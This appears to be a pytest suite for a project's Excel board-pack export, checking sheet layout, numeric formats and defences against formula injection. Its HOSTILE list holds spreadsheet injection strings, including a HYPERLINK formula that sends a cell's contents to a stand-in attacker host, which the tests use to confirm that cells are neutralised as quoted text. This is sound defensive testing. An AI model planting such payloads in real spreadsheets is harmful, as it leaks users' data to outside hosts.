"""The Excel board pack, read back with openpyxl: values in cells, one sheet per section, and
no text that a spreadsheet could run as a formula."""

from __future__ import annotations

import dataclasses
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from pulse.exports import render
from pulse.exports.report import BoardPack, LineageRow
from pulse.exports.xlsx import unit_format

# openpyxl drops the Excel sparklines it cannot read, and says so.
pytestmark = pytest.mark.filterwarnings("ignore:Sparkline Group extension:UserWarning")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def _book(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


@pytest.fixture(scope="module")
def book(pack: BoardPack) -> Workbook:
    return _book(render(pack, "xlsx"))


def _rows(ws: Worksheet, header_row: int = 1) -> list[dict[str, object]]:
    cells = list(ws.iter_rows(min_row=header_row))
    names = [c.value for c in cells[0]]
    return [
        {str(n): c.value for n, c in zip(names, row, strict=True)}
        for row in cells[1:]
        if any(c.value is not None for c in row)
    ]


def test_one_sheet_per_section(book: Workbook) -> None:
    assert book.sheetnames == ["Scorecard", "KPIs", "Findings", "Definitions", "Lineage"]


def test_scorecard_holds_numbers_as_numbers(book: Workbook) -> None:
    ws = book["Scorecard"]
    assert ws["A1"].value == "Board pack — acme — 2024-Q2"
    assert ws["B3"].value == "2024-Q2 (2024-04-01 to 2024-06-30)"
    assert ws["B4"].value == datetime(2024, 7, 15, 9, 30)
    rows = {r["KPI id"]: r for r in _rows(ws, header_row=7)}
    assert list(rows) == ["win_rate", "new_opportunities", "bookings", "nrr", "average_deal_size"]
    win = rows["win_rate"]
    assert win["Value"] == pytest.approx(0.10)
    assert win["Target"] == pytest.approx(0.25)
    assert win["Previous"] == pytest.approx(0.75)
    assert win["Change"] == pytest.approx(-0.65)
    assert (win["Status"], win["Status symbol"], win["Core"]) == ("red", "✗", "★")
    assert rows["bookings"]["Value"] == 7000
    assert rows["nrr"]["Value"] is None
    assert rows["nrr"]["Status"] == "missing data"
    value_cell = ws.cell(row=8, column=5)
    assert value_cell.data_type == "n"
    assert value_cell.number_format == "0.0%"
    bookings_cell = ws.cell(row=10, column=5)
    assert (bookings_cell.value, bookings_cell.data_type) == (7000, "n")
    assert bookings_cell.number_format == unit_format("currency", "USD")


def test_kpi_sheet_has_each_series(book: Workbook) -> None:
    ws = book["KPIs"]
    header = [c.value for c in ws[1]]
    assert header[:7] == ["KPI id", "KPI", "Unit", "Status", "2023-Q4", "2024-Q1", "2024-Q2"]
    rows = {r["KPI id"]: r for r in _rows(ws)}
    assert rows["win_rate"]["2023-Q4"] is None
    assert rows["win_rate"]["2024-Q1"] == pytest.approx(0.75)
    assert rows["win_rate"]["2024-Q2"] == pytest.approx(0.10)
    assert rows["new_opportunities"]["2024-Q1"] == 5
    assert rows["new_opportunities"]["2024-Q2"] == 9
    assert str(rows["win_rate"]["Why it moved"]).startswith("Win rate fell from 75.0% to 10.0%")
    assert ws.cell(row=2, column=6).data_type == "n"


def test_findings_definitions_and_lineage(book: Workbook, pack: BoardPack) -> None:
    findings = _rows(book["Findings"])
    assert findings[0]["Title"] == "Win rate below 20%"
    assert findings[0]["Severity"] == "red"
    assert findings[0]["Finding id"] == "win_rate_below_20:win_rate"
    definitions = {r["KPI id"]: r for r in _rows(book["Definitions"]) if r["KPI"]}
    assert set(definitions) >= {"win_rate", "bookings", "nrr"}
    assert definitions["win_rate"]["Formula"] == "(SUM(is_won)) ÷ (SUM(is_closed))"
    (lineage,) = _rows(book["Lineage"])
    assert lineage["File"] == "crm-opportunities.csv"
    assert lineage["sha256"] == pack.lineage[0].sha256
    assert lineage["Rows read"] == 14
    assert isinstance(lineage["Imported (UTC)"], datetime)


def test_no_cell_in_the_workbook_is_a_formula(book: Workbook) -> None:
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)


def test_formula_injection_is_neutralised(pack: BoardPack) -> None:
    """Hostile names (a KPI, a finding, an imported file) come out as quoted text."""
    entries = pack.kpis()
    names_in = iter(HOSTILE)
    hostile_kpis = {
        s: [dataclasses.replace(k, name=next(names_in)) for k in ks]
        for s, ks in pack.sections.items()
    }
    hostile = dataclasses.replace(
        pack,
        sections=hostile_kpis,
        findings=[
            dataclasses.replace(f, title=HOSTILE[0], evidence=HOSTILE[3]) for f in pack.findings
        ],
        lineage=[
            LineageRow(9, None, "accounts", text, "", "", "upsert", 1, 1, 0, 0, 1, text)
            for text in HOSTILE
        ],
    )
    assert len(entries) == 5
    book = _book(render(hostile, "xlsx"))
    names = [r["KPI"] for r in _rows(book["Scorecard"], header_row=7)]
    assert names == ["'" + text for text in HOSTILE[:5]]
    # XLSX stores a carriage return as _x000D_ (Excel reads it back as CR; openpyxl does not).
    files = [
        (str(r["File"]).replace("_x000D_", "\r"), str(r["Note"]).replace("_x000D_", "\r"))
        for r in _rows(book["Lineage"])
    ]
    assert files == [("'" + t, "'" + t) for t in HOSTILE]
    finding = _rows(book["Findings"])[0]
    assert (finding["Title"], finding["Evidence"]) == ("'" + HOSTILE[0], "'" + HOSTILE[3])
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("unit", "currency", "expected"),
    [
        ("percent", "USD", "0.0%"),
        ("currency", "USD", "$#,##0;-$#,##0"),
        ("currency", "EUR", '#,##0 "EUR"'),
        ("ratio", "USD", '0.00"×"'),
        ("days", "USD", '0.0" d"'),
    ],
)
def test_unit_formats(unit: str, currency: str, expected: str) -> None:
    assert unit_format(unit, currency) == expected
